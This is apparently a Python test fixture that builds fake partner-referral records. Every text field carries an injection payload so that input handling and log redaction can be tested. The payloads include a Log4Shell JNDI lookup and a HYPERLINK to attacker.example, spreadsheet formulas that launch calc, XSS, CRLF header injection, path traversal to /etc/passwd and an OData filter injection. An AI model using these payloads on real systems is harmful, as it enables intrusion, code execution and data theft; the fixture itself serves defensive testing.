"""Nothing in; referrals out whose every text field carries an attack, beside one that must come through unharmed."""

from typing import Any

PAYLOADS = {
    "formula": "=cmd|' /C calc'!A0",
    "plus": '+HYPERLINK("http://attacker.example")',
    "minus": "-2+3+cmd|' /C calc'!D2",
    "at": "@SUM(1+1)*cmd",
    "tab": "\t=1+1",
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "attribute": "\"' autofocus onfocus=alert(1) x='",
    "bidi": "gnp.\u202eexe.\u2066invoice",
    "null": "before\x00after\x1b[31m\x07",
    "line": "first\r\nSet-Cookie: x=1\r\n\r\nsecond",
    "lone": "half a pair \ud800",
    "long": "A" * 20_000,
    "template": "${jndi:ldap://attacker.example/a}{{7*7}}%s%n",
    "path": "../../../../etc/passwd",
    "odata": "x' or '1' eq '1",
    "emoji": "👩‍👩‍👧‍👦 İıŞş 株式会社",
}
SECRET_PERSON = ("Quirinus", "Zwiebelfisch", "quirinus.zwiebelfisch@personal-data.example", "+49 555 0187 4242")
"""A person whose name, address and number must appear in no log and on no timeline."""


def domain_of(name: str) -> str:
    """The company that carries this payload."""
    return f"{name}-attack.example"


def hostile_referrals() -> list[dict[str, Any]]:
    """One per payload, in every field that holds text, and one person to look for."""
    found = [_record(number, domain_of(name), text) for number, (name, text) in enumerate(PAYLOADS.items(), 1)]
    first, last, email, phone = SECRET_PERSON
    person = _record(99, "personal-data.example", "Sound")
    person["customerProfile"]["team"] = [{"firstName": first, "lastName": last, "email": email, "phoneNumber": phone}]
    return [*found, person]


def _record(number: int, domain: str, text: str) -> dict[str, Any]:
    stamp = f"2026-11-{number % 20 + 1:02}T08:00:00.0000000Z"
    return {
        "id": f"00000000-0000-4000-8000-{number:012}",
        "engagementId": text,
        "name": text,
        "type": "Shared",
        "qualification": "SalesQualified",
        "status": "New",
        "substatus": "Pending",
        "direction": "Incoming",
        "createdDateTime": stamp,
        "updatedDateTime": stamp,
        "expirationDateTime": "2027-12-04T00:00:00Z",
        "customerProfile": {
            "name": text,
            "size": text,
            "address": {"country": text, "city": text, "addressLine1": text, "postalCode": text},
            "team": [{"firstName": text, "lastName": text, "email": f"office@{domain}", "phoneNumber": text}],
            "ids": [{"profileType": text, "id": text}],
        },
        "consent": {"consentToShareReferralWithMicrosoftSellers": True},
        "details": {
            "dealValue": 1000,
            "currency": text,
            "notes": text,
            "customerAction": text,
            "requirements": {"industries": [{"id": text, "name": text}], "solutions": [{"name": text, "type": text}]},
        },
        "inviteContext": {"notes": text, "invitedBy": {"organizationId": text, "organizationName": text}},
        "target": [{"type": text, "id": text}],
        "team": [{"firstName": text, "lastName": text, "email": f"seller@{domain}"}],
        text[:50]: text,
    }
